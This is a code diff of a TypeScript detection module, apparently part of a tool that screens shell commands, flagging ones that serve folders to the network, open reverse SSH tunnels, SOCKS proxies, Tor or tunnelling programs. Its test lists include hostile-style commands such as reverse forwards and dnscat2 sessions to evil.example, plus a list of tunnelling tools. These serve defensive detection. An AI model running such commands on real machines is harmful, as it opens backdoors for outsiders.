@@ -1,9 +1,29 @@
 // Openings: ways in and out that the machine did not have before, by servers and tunnels, and the network as such.
-import type { CommandFact } from "../../../../shared/facts.ts";
-import { severity } from "../bands.ts";
-import { type Heuristic, clip, firstOf, onCode, onCommand, when } from "../heuristic.ts";
-import { isDownloader } from "../programs.ts";
-import { joined, operands } from "../read.ts";
+import type { CommandFact } from "../../../../../shared/domain/facts.ts";
+import { has, settingsOf, values } from "../../../normalise/programs/invocation.ts";
+import { severity } from "../../bands.ts";
+import { type Heuristic, clip, firstOf, onCode, onCommand, when } from "../../heuristic.ts";
+import { isDownloader } from "../../programs.ts";
+import { someWord, wordsOf } from "../../read.ts";
+
+const serverModule = /^(?:http\.server|simplehttpserver|pyftpdlib)$/iu;
+const wholePlace = /^(?:\/|~\/?|\$home\/?|\/(?:etc|home|root|users|var)\/?)$/iu;
+/** Remote logins and services that give orders to a machine. */
+const loginPort = /^(?:22|23|3389|5900|2375|6443)$/u;
+
+function servesHere(command: CommandFact): boolean {
+  return settingsOf(command).some((setting) => /127\.0\.0\.1|localhost/u.test(setting));
+}
+
+/** Shows something about itself and does nothing else. */
+function onlyTells({ options, operands }: CommandFact, also?: RegExp): boolean {
+  const [first = ""] = operands;
+  return (
+    /^--?(?:version|help|h)$/u.test(options[0]?.name ?? "") ||
+    /^(?:version|help)$/u.test(first) ||
+    also?.test(first) === true
+  );
+}
 
 export const openings: readonly Heuristic[] = [
   {
@@ -13,21 +33,22 @@ export const openings: readonly Heuristic[] = [
     score: severity.medium,
     check: firstOf(
       onCommand(["python", "python3", "python2"], (command) =>
-        /-m\s+(?:http\.server|simplehttpserver|pyftpdlib)/iu.test(joined(command)) &&
-        !/127\.0\.0\.1|localhost/u.test(joined(command))
+        has(command, "-m") && settingsOf(command).some((setting) => serverModule.test(setting)) && !servesHere(command)
           ? "It serves this folder to the network"
           : null,
       ),
       onCommand(["ruby"], (command) =>
-        /-run\b.*httpd|un\.rb/u.test(joined(command)) ? "It serves this folder to the network" : null,
-      ),
-      onCommand(["php"], (command) =>
-        /-S\s+0\.0\.0\.0/u.test(joined(command)) ? "It serves this folder to the network" : null,
-      ),
-      onCommand(["httpd", "darkhttpd", "webfsd", "thttpd"], (command) =>
-        /(?:^|\s)(?:-h|-d|-r)\s/u.test(joined(command)) || command.program !== "httpd"
+        (someWord(command, /^-run\b/u) && command.operands.includes("httpd")) || someWord(command, /un\.rb/u)
           ? "It serves this folder to the network"
           : null,
+      ),
+      onCommand(["php"], (command) =>
+        has(command, "-S") && settingsOf(command).some((setting) => setting.startsWith("0.0.0.0"))
+          ? "It serves this folder to the network"
+          : null,
+      ),
+      onCommand(["httpd", "darkhttpd", "webfsd", "thttpd"], (command) =>
+        has(command, "-h", "-d", "-r") || command.program !== "httpd" ? "It serves this folder to the network" : null,
       ),
       onCode((code) =>
         /\b(?:http\.server|simplehttpserver|socketserver|httpserver|webrick)\b/iu.test(code.text.slice(0, 65_536)) &&
@@ -37,10 +58,8 @@ export const openings: readonly Heuristic[] = [
           : null,
       ),
     ),
-    examples: {
-      risky: ["python3 -m http.server 8000"],
-      honest: ["python3 -m http.server --bind 127.0.0.1", "python3 -m pytest"],
-    },
+    match: ["python3 -m http.server 8000"],
+    not_match: ["python3 -m http.server --bind 127.0.0.1", "python3 -m pytest"],
   },
   {
     id: "serves-everything",
@@ -64,25 +83,22 @@ export const openings: readonly Heuristic[] = [
         "caddy",
       ],
       (command) => {
-        const line = ` ${joined(command)} `;
         const serves =
-          /http\.server|simplehttpserver|\s-S\s|httpd|^\s(?:serve|http-server|file-server)\b|--root/iu.test(line) ||
+          someWord(command, /http\.server|simplehttpserver|httpd/iu) ||
+          has(command, "-S", "--root") ||
+          /^(?:serve|http-server|file-server)$/u.test(wordsOf(command)[0] ?? "") ||
           /^(?:darkhttpd|webfsd|miniserve|serve|httpd)$/u.test(command.program);
-        const place =
-          /\s(?:(?:--directory|-d|-t|-h|-r|--root)[= ]?)?["']?(?:\/|~\/?|\$home\/?|\/(?:etc|home|root|users|var)\/?)["']?\s/iu;
-        return serves && place.test(line) && !/127\.0\.0\.1|localhost/u.test(line)
+        return serves && settingsOf(command).some((setting) => wholePlace.test(setting)) && !servesHere(command)
           ? "It serves the whole machine or a whole home to the network"
           : null;
       },
     ),
-    examples: {
-      risky: ["python3 -m http.server 8000 --directory /", "php -S 0.0.0.0:80 -t /", "busybox httpd -f -p 80 -h /"],
-      honest: [
-        "python3 -m http.server 8000",
-        "python3 -m http.server --directory dist",
-        "php -S localhost:8000 -t public",
-      ],
-    },
+    match: ["python3 -m http.server 8000 --directory /", "php -S 0.0.0.0:80 -t /", "busybox httpd -f -p 80 -h /"],
+    not_match: [
+      "python3 -m http.server 8000",
+      "python3 -m http.server --directory dist",
+      "php -S localhost:8000 -t public",
+    ],
   },
   {
     id: "tunnel-opened",
@@ -91,57 +107,51 @@ export const openings: readonly Heuristic[] = [
     score: severity.ask,
     check: firstOf(
       onCommand(["ligolo-ng", "iodine", "dnscat2", "dnscat", "ptunnel", "reGeorg"], (command) =>
-        /^(?:--?version|--?help|version|help)$/u.test(command.arguments[0] ?? "")
-          ? null
-          : `${command.program} opens a way through the firewall`,
+        onlyTells(command) ? null : `${command.program} opens a way through the firewall`,
       ),
       onCommand(["ssh", "autossh"], (command) =>
         tunnelsBack(command) ? "It opens a port on another machine that leads back here" : null,
       ),
       onCommand(["chisel", "gost", "ssf", "rpivot", "frpc", "sshuttle"], (command) =>
-        /(?:^|\s)(?:R:|--?reverse\b|-F=)|\bclient\b.*\bR:/u.test(joined(command))
+        has(command, "-reverse", "--reverse", "-F") || command.operands.some((operand) => operand.startsWith("R:"))
           ? `${command.program} lets others in through a tunnel`
           : null,
       ),
       onCommand(["ngrok", "bore", "cloudflared", "zrok", "pagekite", "lt", "localtunnel"], (command) =>
-        /\btcp\s+(?:22|23|3389|5900|2375|6443)\b|\blocal\s+(?:22|3389|5900)\b|(?:ssh|rdp|tcp):\/\/\S+/u.test(
-          joined(command),
+        settingsOf(command).some((setting) => /(?:ssh|rdp|tcp):\/\/\S+/u.test(setting)) ||
+        command.operands.some(
+          (operand, at) => /^(?:tcp|local)$/u.test(operand) && loginPort.test(command.operands[at + 1] ?? ""),
         )
           ? `${command.program} lets others log in to this machine from anywhere`
           : null,
       ),
       onCommand(["ssh", "autossh"], (command) =>
-        /^-[a-zA-Z]*D/u.test(command.arguments.find((argument) => /^-[a-zA-Z]*D/u.test(argument)) ?? "") &&
-        (command.background === true ||
-          command.program === "autossh" ||
-          command.arguments.some((argument) => /^-[a-zA-Z]*f/u.test(argument)))
+        has(command, "-D") && (command.background === true || command.program === "autossh" || has(command, "-f"))
           ? "It leaves a way into another network open in the background"
           : null,
       ),
       onCommand(["code", "code-insiders", "devtunnel"], (command) =>
-        operands(command)[0] === "tunnel" || command.program === "devtunnel"
+        command.operands[0] === "tunnel" || command.program === "devtunnel"
           ? "It opens a way through the firewall"
           : null,
       ),
     ),
-    examples: {
-      risky: [
-        "dnscat2 evil.example",
-        "ssh -R 8080:localhost:80 user@evil.example",
-        "ssh -o 'RemoteForward 8080 localhost:80' user@evil.example",
-        "autossh -M 0 -R 2222:localhost:22 user@evil.example",
-        "autossh -M 0 -N -D 1080 user@evil.example",
-        "ssh -N -D 1080 user@evil.example &",
-        "code tunnel",
-      ],
-      honest: [
-        "ssh -L 5432:localhost:5432 host.example",
-        "ngrok --version",
-        "ngrok http 3000",
-        "ssh -D 1080 host.example",
-        "autossh -M 0 -N -L 5432:localhost:5432 host.example",
-      ],
-    },
+    match: [
+      "dnscat2 evil.example",
+      "ssh -R 8080:localhost:80 user@evil.example",
+      "ssh -o 'RemoteForward 8080 localhost:80' user@evil.example",
+      "autossh -M 0 -R 2222:localhost:22 user@evil.example",
+      "autossh -M 0 -N -D 1080 user@evil.example",
+      "ssh -N -D 1080 user@evil.example &",
+      "code tunnel",
+    ],
+    not_match: [
+      "ssh -L 5432:localhost:5432 host.example",
+      "ngrok --version",
+      "ngrok http 3000",
+      "ssh -D 1080 host.example",
+      "autossh -M 0 -N -L 5432:localhost:5432 host.example",
+    ],
   },
   {
     id: "tunnel-program",
@@ -167,21 +177,17 @@ export const openings: readonly Heuristic[] = [
           "zrok",
           "pagekite",
         ],
-        (command) =>
-          /^(?:--?version|--?help|version|help|list|--?h)$/u.test(command.arguments[0] ?? "")
-            ? null
-            : `${command.program} can open a way through the firewall`,
+        (command) => (onlyTells(command, /^list$/u) ? null : `${command.program} can open a way through the firewall`),
       ),
       onCommand(["systemctl", "service"], (command) =>
-        /\b(?:tor|i2pd?)\b/u.test(joined(command)) && /\b(?:start|enable|restart)\b/u.test(joined(command))
+        wordsOf(command).some((word) => /^(?:tor|i2pd?)\b/u.test(word)) &&
+        wordsOf(command).some((word) => /^(?:start|enable|restart)$/u.test(word))
           ? "It starts a hidden network"
           : null,
       ),
     ),
-    examples: {
-      risky: ["ngrok http 3000", "service tor start"],
-      honest: ["ngrok --version", "service nginx start"],
-    },
+    match: ["ngrok http 3000", "service tor start"],
+    not_match: ["ngrok --version", "service nginx start"],
   },
   {
     id: "reaches-network",
@@ -202,20 +208,16 @@ export const openings: readonly Heuristic[] = [
           : null,
       ),
       onCommand(isDownloader, (command) =>
-        command.arguments.length > 0 && command.dynamic
+        settingsOf(command).length > 0 && command.dynamic
           ? `${command.program} connects to a host known only when it runs`
           : null,
       ),
     ),
-    examples: { risky: ["curl https://example.org"], honest: ["curl http://localhost:3000", "ls"] },
+    match: ["curl https://example.org"],
+    not_match: ["curl http://localhost:3000", "ls"],
   },
 ];
 
-/** `-R` among the options that stand before the destination; after it come the words of the remote command. */
-function tunnelsBack({ program, arguments: list }: CommandFact): boolean {
-  const valued = program === "autossh" ? /^-[a-zA-Z]*[MbcDEeFIiJLlmOopQRSWw]$/u : /^-[a-zA-Z]*[bcDEeFIiJLlmOopQRSWw]$/u;
-  const destination = list.findIndex((argument, at) => !argument.startsWith("-") && !valued.test(list[at - 1] ?? ""));
-  return list
-    .slice(0, destination < 0 ? list.length : destination)
-    .some((argument) => /^-[a-zA-Z]*R(?:$|[\d:])/u.test(argument) || /^(?:-o\s*)?RemoteForward[\s=]/iu.test(argument));
+function tunnelsBack(command: CommandFact): boolean {
+  return has(command, "-R") || values(command, "-o").some((setting) => /^RemoteForward[\s=]/iu.test(setting));
 }
